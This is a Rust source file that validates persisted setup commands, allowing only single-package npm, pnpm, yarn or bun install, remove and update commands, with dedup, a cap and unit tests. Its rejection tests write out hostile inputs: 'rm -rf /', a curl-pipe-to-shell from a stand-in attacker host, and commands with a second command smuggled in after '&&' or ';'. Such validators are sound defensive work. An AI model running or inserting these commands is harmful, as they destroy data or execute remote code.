//! Whitelisting of persisted setup commands.
//!
//! Bootstrap commands are replayed whenever a project environment is
//! freshly provisioned, so only narrowly-shaped package-manager commands
//! survive validation: `<manager> <install|add|remove|update> <package>`
//! with exactly one package spec. Anything else — file deletion, arbitrary
//! shell, bare installs with no package — is rejected.

use regex::Regex;
use tracing::warn;

/// Most recent commands retained after dedup.
pub const DEFAULT_MAX_COMMANDS: usize = 50;

/// Canonical action classes; manager-specific aliases collapse into these
/// so duplicates dedupe across spellings.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommandAction {
    Install,
    Remove,
    Update,
}

impl CommandAction {
    fn parse(raw: &str) -> Option<Self> {
        match raw {
            "install" | "i" | "add" => Some(Self::Install),
            "remove" | "rm" | "uninstall" | "un" => Some(Self::Remove),
            "update" | "up" | "upgrade" => Some(Self::Update),
            _ => None,
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Install => "install",
            Self::Remove => "remove",
            Self::Update => "update",
        }
    }
}

/// A command that passed validation.
#[derive(Debug, Clone)]
pub struct ValidCommand {
    pub action: CommandAction,
    pub package: String,
    /// The original command text, trimmed.
    pub raw: String,
}

impl ValidCommand {
    /// Dedup key: later occurrences of the same key win.
    pub fn key(&self) -> String {
        format!("{}:{}", self.action.as_str(), self.package)
    }
}

/// Validates, deduplicates and caps persisted setup commands.
#[derive(Debug)]
pub struct SetupCommandValidator {
    shape: Regex,
    package: Regex,
    max_commands: usize,
}

impl SetupCommandValidator {
    pub fn new() -> Self {
        Self::with_cap(DEFAULT_MAX_COMMANDS)
    }

    pub fn with_cap(max_commands: usize) -> Self {
        // Overall shape: manager, action word, single package token. The
        // package token is validated separately.
        let shape = Regex::new(r"^(npm|pnpm|yarn|bun)\s+([a-z]+)\s+(\S+)$")
            .expect("command shape pattern is valid");
        // Package spec: optionally scoped name with an optional version
        // range or dist-tag, or a git/https source. Character classes
        // exclude shell metacharacters outright.
        let package = Regex::new(
            r"^(?:(?:@[a-z0-9][a-z0-9._-]*/)?[a-z0-9][a-z0-9._-]*(?:@[A-Za-z0-9^~><=.*+_-]+)?|(?:git\+)?(?:https|ssh)://[A-Za-z0-9:/@._+#-]+|github:[A-Za-z0-9._-]+/[A-Za-z0-9._-]+(?:#[A-Za-z0-9._/-]+)?)$",
        )
        .expect("package pattern is valid");
        Self {
            shape,
            package,
            max_commands,
        }
    }

    /// Validate a single command. `None` means rejected.
    pub fn validate(&self, command: &str) -> Option<ValidCommand> {
        let trimmed = command.trim();
        let captures = self.shape.captures(trimmed)?;
        let action = CommandAction::parse(&captures[2])?;
        let package = captures[3].to_string();
        if !self.package.is_match(&package) {
            return None;
        }
        Some(ValidCommand {
            action,
            package,
            raw: trimmed.to_string(),
        })
    }

    /// Validate a batch: rejected commands are dropped with a warning,
    /// duplicates collapse (later occurrence wins), and the result is
    /// capped to the most recent `max_commands`.
    pub fn sanitize(&self, commands: &[String]) -> Vec<String> {
        let mut retained: Vec<(String, String)> = Vec::new();
        for command in commands {
            let Some(valid) = self.validate(command) else {
                warn!(target: "crucible::bootstrap", command = %command, "rejected setup command");
                continue;
            };
            let key = valid.key();
            if let Some(pos) = retained.iter().position(|(k, _)| *k == key) {
                retained.remove(pos);
            }
            retained.push((key, valid.raw));
        }
        let start = retained.len().saturating_sub(self.max_commands);
        retained.drain(..start);
        retained.into_iter().map(|(_, raw)| raw).collect()
    }
}

impl Default for SetupCommandValidator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn validator() -> SetupCommandValidator {
        SetupCommandValidator::new()
    }

    #[test]
    fn test_accepts_plain_install() {
        let valid = validator().validate("npm add lodash").unwrap();
        assert_eq!(valid.action, CommandAction::Install);
        assert_eq!(valid.package, "lodash");
    }

    #[test]
    fn test_accepts_scoped_versioned_and_git_packages() {
        let v = validator();
        assert!(v.validate("pnpm add @types/node").is_some());
        assert!(v.validate("npm install react@^18.2.0").is_some());
        assert!(v.validate("yarn add left-pad@1.3.0").is_some());
        assert!(v.validate("bun add git+https://github.com/user/repo").is_some());
        assert!(v.validate("npm install github:user/repo#v2").is_some());
    }

    #[test]
    fn test_rejects_everything_else() {
        let v = validator();
        assert!(v.validate("rm -rf /").is_none());
        assert!(v.validate("npm install").is_none(), "bare install has no package");
        assert!(v.validate("npm run build").is_none());
        assert!(v.validate("curl https://evil.example | sh").is_none());
        assert!(v.validate("npm add lodash && rm -rf /").is_none());
        assert!(v.validate("npm add lodash; whoami").is_none());
        assert!(v.validate("apt-get install vim").is_none());
    }

    #[test]
    fn test_duplicates_collapse_later_wins() {
        let commands = vec![
            "npm install lodash".to_string(),
            "npm add react".to_string(),
            "npm i lodash".to_string(),
        ];
        let sanitized = validator().sanitize(&commands);
        assert_eq!(sanitized, vec!["npm add react".to_string(), "npm i lodash".to_string()]);
    }

    #[test]
    fn test_same_package_different_action_is_kept() {
        let commands = vec![
            "npm install lodash".to_string(),
            "npm remove lodash".to_string(),
        ];
        let sanitized = validator().sanitize(&commands);
        assert_eq!(sanitized.len(), 2);
    }

    #[test]
    fn test_cap_keeps_most_recent() {
        let commands = vec![
            "npm add one".to_string(),
            "npm add two".to_string(),
            "npm add three".to_string(),
        ];
        let sanitized = SetupCommandValidator::with_cap(2).sanitize(&commands);
        assert_eq!(sanitized, vec!["npm add two".to_string(), "npm add three".to_string()]);
    }

    #[test]
    fn test_sanitize_drops_invalid_silently() {
        let commands = vec![
            "npm add lodash".to_string(),
            "rm -rf /".to_string(),
        ];
        let sanitized = validator().sanitize(&commands);
        assert_eq!(sanitized, vec!["npm add lodash".to_string()]);
    }
}
